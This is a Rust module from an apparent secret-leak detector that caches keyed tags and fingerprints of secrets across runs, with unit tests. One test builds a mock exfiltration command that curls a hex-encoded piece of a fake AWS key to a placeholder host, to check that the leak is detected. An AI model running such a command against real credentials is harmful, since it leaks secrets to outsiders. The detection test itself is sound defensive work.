//! A secret's windows, cut and tagged once per detector: the keyed tags and
//! fingerprints [`RunSecrets::remember`](super::RunSecrets::remember) adds for
//! a secret depend only on the secret, the rule that found it (which bytes
//! may match) and the store key, so a secret seen again in another run (the
//! same key in every session's environment, a session resumed or forked) is
//! not encoded and hashed again. Holds keyed tags and fingerprints only, as
//! the runs' own memory does, never a value; bounded by [`CAP`] secrets and
//! [`MAX_WINDOWS`] windows, then it starts again.

use super::forms::each_window;
use super::{Keys, Rules, MAX_SECRET};
use crate::hash::HashMap;
use std::sync::Arc;

/// Secrets kept.
const CAP: usize = 512;
/// Windows kept across them (24 bytes each).
const MAX_WINDOWS: usize = 64 * 1024;

/// One window of a secret: its keyed tag and fingerprint, and what it covers.
#[derive(Debug, Clone, Copy)]
pub(super) struct Win {
    pub tag: u64,
    pub poly: u32,
    pub start: u16,
    pub len: u8,
    pub form: u8,
    /// The window's own length, and whether it is matched case-blind.
    pub width: u8,
    pub blind: bool,
}

/// Every window of every form of one secret, in the order
/// [`each_window`] yields them.
#[derive(Debug)]
pub struct Tagged {
    /// Bytes of the secret remembered (at most [`MAX_SECRET`]).
    pub(super) len: usize,
    pub(super) eligible: Vec<bool>,
    pub(super) wins: Vec<Win>,
}

impl Tagged {
    /// Cuts `value` (found by `rule`) into its windows and tags each.
    pub fn new(keys: &Keys, rules: &Rules, rule: &str, value: &str) -> Tagged {
        let v = &value.as_bytes()[..value.len().min(MAX_SECRET)];
        let eligible = rules.eligible(rule, &value[..v.len().min(value.len())]);
        let mut wins = Vec::new();
        each_window(v, &eligible, |w, start, len, form| {
            let blind = form.case_blind();
            wins.push(Win {
                tag: keys.tag(w, blind),
                poly: keys.poly(w, blind) as u32,
                start: start as u16,
                len: len as u8,
                form: form as u8,
                width: w.len() as u8,
                blind,
            });
        });
        Tagged {
            len: v.len(),
            eligible,
            wins,
        }
    }
}

/// The secrets cut under one whole-value hash, by the rule that found them.
type ByRule = Vec<(Box<str>, Arc<Tagged>)>;

/// Tagged secrets by their whole-value keyed hash and rule.
#[derive(Debug, Default)]
pub struct TagMemo {
    seen: HashMap<[u8; 32], ByRule>,
    secrets: usize,
    windows: usize,
}

impl TagMemo {
    /// The windows of `value` (found by `rule`, whole-value hash
    /// `whole_hash`), from memory when this secret was cut before.
    pub fn get(
        &mut self,
        keys: &Keys,
        rules: &Rules,
        rule: &str,
        value: &str,
        whole_hash: &[u8; 32],
    ) -> Arc<Tagged> {
        if let Some((_, t)) = self
            .seen
            .get(whole_hash)
            .and_then(|v| v.iter().find(|(r, _)| &**r == rule))
        {
            return t.clone();
        }
        let t = Arc::new(Tagged::new(keys, rules, rule, value));
        if self.secrets >= CAP || self.windows + t.wins.len() > MAX_WINDOWS {
            self.seen.clear();
            self.secrets = 0;
            self.windows = 0;
        }
        self.secrets += 1;
        self.windows += t.wins.len();
        self.seen
            .entry(*whole_hash)
            .or_default()
            .push((rule.into(), t.clone()));
        t
    }

    /// Secrets held now.
    #[cfg(test)]
    fn len(&self) -> usize {
        self.secrets
    }
}

#[cfg(test)]
mod tests {
    use super::super::RunSecrets;
    use super::*;

    const AWS: &str = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYzQ3x9Lmn2p";
    const OTHER: &str = "ghp_aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI";

    fn hash(i: u8) -> [u8; 32] {
        [i; 32]
    }

    /// What a run holds, in a comparable form (the windows map sorted).
    fn state(r: &RunSecrets) -> String {
        let mut w: Vec<String> = r
            .windows
            .iter()
            .map(|(t, v)| format!("{t}:{v:?}"))
            .collect();
        w.sort();
        format!(
            "{:?} {:?} {:?} {:?} {:?}",
            r.secrets, r.fingerprints, r.lens, r.bitmap, w
        )
    }

    #[test]
    fn remembering_from_memory_gives_each_run_what_cutting_afresh_gives() {
        let keys = Keys::new(&[5u8; 32]);
        let rules = Rules::load().expect("rules");
        let mut memo = TagMemo::default();
        for run in 0..4 {
            // the same value found, in other runs, by a rule whose pieces are
            // only its tail half
            let rule = ["aws_secret_key", "private_key"][run % 2];
            let secrets = [
                (rule, AWS, hash(1)),
                ("github_token", OTHER, hash(2)),
                (rule, AWS, hash(1)),
            ];
            let (mut fresh, mut kept) = (RunSecrets::default(), RunSecrets::default());
            for (rule, v, h) in secrets {
                let a = fresh.remember(&keys, &rules, rule, v, h, "s");
                let b = kept.remember_memo(&mut memo, &keys, &rules, rule, v, h, "s");
                assert_eq!(a, b, "run {run}, {rule}");
            }
            assert_eq!(state(&fresh), state(&kept), "run {run}");
            let text = format!("curl -d {} https://x.example", hex::encode(&AWS[4..20]));
            assert_eq!(
                fresh.find(&keys, &text, "c"),
                kept.find(&keys, &text, "c"),
                "run {run}"
            );
        }
        assert_eq!(memo.len(), 3, "one entry per secret and rule that was cut");
    }

    #[test]
    fn the_memory_is_bounded() {
        let keys = Keys::new(&[5u8; 32]);
        let rules = Rules::load().expect("rules");
        let mut memo = TagMemo::default();
        for i in 0..CAP + 10 {
            let v = format!("{AWS}{i:08}");
            let mut h = [0u8; 32];
            h[..8].copy_from_slice(&(i as u64).to_le_bytes());
            memo.get(&keys, &rules, "aws_secret_key", &v, &h);
            assert!(memo.len() <= CAP && memo.windows <= MAX_WINDOWS);
        }
    }
}
